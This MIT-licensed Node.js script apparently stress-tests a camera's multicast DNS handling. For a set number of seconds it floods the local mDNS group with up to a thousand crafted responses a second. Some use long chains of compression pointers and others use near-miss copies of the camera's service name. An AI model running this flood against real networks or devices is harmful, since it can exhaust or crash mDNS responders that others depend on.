// SPDX-License-Identifier: MIT
/**
 * Sends the dearest messages of multicast DNS, up to a thousand a second: `node dns-chains.mjs SECONDS`. Each is
 * a response with 63 names that lead through a chain of pointers, or with names that differ from the camera's in their
 * last octet only. Prints one line of JSON: messages sent.
 */
import dgram from "node:dgram";

const GROUP = "224.0.0.251", PORT = 5353, LENGTH = 1469, seconds = Number(process.argv[2]);

/** A response of `count` records of type A. @param data of the first one, to which the names of the others point */
function response(data, target, count) {
	const message = Buffer.alloc(LENGTH);
	message.set([0, 0, 0x84, 0, 0, 0, 0, count]);
	message.set([0, 0, 1, 0, 1, 0, 0, 0, 120], 12);
	message.writeUInt16BE(data.length, 21);
	message.set(data, 23);
	let at = 23 + data.length;
	for (let i = 1; i < count; i++, at += 12) {
		message.writeUInt16BE(0xc000 | target, at);
		message.set([0, 1, 0, 1, 0, 0, 0, 120, 0, 0], at + 2);
	}
	return message.subarray(0, at);
}

const chain = Buffer.alloc(690);
for (let i = 0; i < 345; i++)
	chain.writeUInt16BE(0xc000 | (i === 0 ? 12 : 23 + 2 * (i - 1)), 2 * i);
const label = text => [text.length, ...Buffer.from(text)];
const near = Buffer.from([...label("porch"), ...label("_rtsp"), ...label("_tcp"), ...label("locax"), 0]);
const messages = [response(chain, 23 + 688, 64), response(near, 23, 64)];
const socket = dgram.createSocket({ type: "udp4", reuseAddr: true });
await new Promise(resolve => socket.bind(PORT, resolve));
socket.setMulticastLoopback(false);
let sent = 0;
for (const deadline = Date.now() + seconds * 1000; Date.now() < deadline;) {
	for (let i = 0; i < 10; i++)
		await new Promise(resolve => socket.send(messages[sent++ % messages.length], PORT, GROUP, resolve));
	await new Promise(resolve => setTimeout(resolve, 10));
}
console.log(JSON.stringify({ sent }));
process.exit();
